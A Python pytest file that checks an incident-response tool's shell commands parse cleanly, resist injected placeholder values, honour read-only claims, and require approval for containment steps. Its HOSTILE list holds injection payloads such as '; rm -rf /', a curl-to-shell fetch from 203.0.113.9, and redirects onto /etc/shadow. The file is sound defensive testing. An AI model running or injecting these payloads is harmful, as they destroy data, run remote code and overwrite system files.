"""Every command of every shipped entry and block, parsed as shell, also with hostile values in it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
import tree_sitter_bash
from tree_sitter import Language, Node, Parser

from explainer.advice import is_read_only
from explainer.enrich.texts import command_problem, fill_command, placeholders
from explainer.schema.knowledge import KnowledgeAction
from explainer.store.knowledge_files import KnowledgeFiles

PARSER = Parser(Language(tree_sitter_bash.language()))
HOSTILE = (
    "; rm -rf /",
    "$(curl http://203.0.113.9/x|sh)",
    "`id`",
    "' ; reboot ; '",
    '" && halt && "',
    "a\nreboot",
    "--output=/etc/passwd",
    "-delete",
    "\u202egnp.exe",
    "x" * 5000,
    "| tee /etc/cron.d/x",
    "> /etc/shadow",
    "${IFS}x",
    "\\",
    "",
    "*",
    "~root",
    "{a,b}",
    "!!",
)
FILES = KnowledgeFiles()


def _commands() -> Iterator[tuple[str, str]]:
    for block in FILES.blocks():
        for action in block.actions:
            if action.command:
                yield f"{block.id}.{action.id}", action.command
    for stem, entry in FILES.entries():
        for action in entry.actions:
            if action.command:
                yield f"{stem}.{action.id}", action.command
        for number, unknown in enumerate(entry.unknowns):
            if unknown.command:
                yield f"{stem}.unknowns.{number}", unknown.command


COMMANDS = dict(_commands())


def shape(command: str) -> list[str]:
    """Node types that decide what is run, in order; the words themselves left out."""
    found: list[str] = []

    def walk(node: Node) -> None:
        if node.type in {
            "command",
            "pipeline",
            "list",
            "redirected_statement",
            "file_redirect",
            "command_substitution",
            "process_substitution",
            "subshell",
            "heredoc_redirect",
            "expansion",
            "simple_expansion",
            "&",
            "variable_assignment",
        }:
            found.append(node.type)
        for child in node.children:
            walk(child)

    tree = PARSER.parse(command.encode("utf-8", "surrogatepass"))
    assert not tree.root_node.has_error, command
    walk(tree.root_node)
    return found


@pytest.mark.parametrize("name", COMMANDS)
def test_a_command_parses_and_lets_values_in_safely(name: str) -> None:
    assert command_problem(COMMANDS[name]) is None
    shape(fill_command(COMMANDS[name], {}))


@pytest.mark.parametrize("name", [name for name, command in COMMANDS.items() if placeholders(command)])
def test_hostile_values_add_nothing_to_a_command(name: str) -> None:
    command = COMMANDS[name]
    clean = shape(fill_command(command, {}))
    for value in HOSTILE:
        fields: dict[str, Any] = dict.fromkeys(placeholders(command), value)
        filled = fill_command(command, fields)
        assert shape(filled) == clean, filled
        assert "\n" not in filled.replace(command, "")


def _investigating() -> Iterator[tuple[str, KnowledgeAction]]:
    for block in FILES.blocks():
        yield from ((f"{block.id}.{action.id}", action) for action in block.actions)
    for stem, entry in FILES.entries():
        yield from ((f"{stem}.{action.id}", action) for action in entry.actions)


READ_ONLY = {name: action for name, action in _investigating() if action.read_only and action.command}


@pytest.mark.parametrize("name", READ_ONLY)
def test_a_step_that_claims_to_be_read_only_is(name: str) -> None:
    # None: the advice engine does not know the program; that alone is no fault.
    assert is_read_only(fill_command(READ_ONLY[name].command or "", {})) is not False


@pytest.mark.parametrize("name", [name for name in COMMANDS if ".unknowns." in name])
def test_the_query_of_an_open_question_only_reads(name: str) -> None:
    assert is_read_only(fill_command(COMMANDS[name], {})) is not False


@pytest.mark.parametrize("block", [b.id for b in FILES.blocks()])
def test_a_step_that_changes_something_in_containment_needs_approval(block: str) -> None:
    found = FILES.block(block)
    assert found is not None
    for action in found.actions:
        if action.stage in {"contain", "eradicate"} and not action.read_only:
            assert action.needs_approval, action.id
            assert action.precondition, action.id
